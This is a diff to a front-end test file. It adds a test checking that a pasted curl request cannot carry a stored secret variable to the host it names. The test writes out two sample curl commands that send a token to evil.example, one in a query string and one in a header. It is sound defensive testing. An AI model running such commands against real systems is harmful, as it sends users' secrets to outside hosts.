@@ -107,6 +107,21 @@ test('a pasted text keeps its line breaks', async () => {
   expect(screen.getByLabelText('text')).toHaveFocus();
 });
 
+test('a pasted request takes no variable of the reader to the host that it names', async () => {
+  keepVariable('token', 's3cr3t');
+  show();
+  for (const command of [
+    `curl 'https://evil.example/list?x=$[token]'`,
+    `curl -H 'X-T: $[token]' https://evil.example/list`,
+  ]) {
+    enter(/^A request:/, command);
+    press('Fill in');
+    await screen.findByText(/would take your variable token to https:\/\/evil\.example/);
+    enter(/^A request:/, '');
+  }
+  expect(screen.queryByDisplayValue(/evil/)).toBeNull();
+});
+
 test('a header that would not be sent is refused', async () => {
   show();
   press('Add a header');
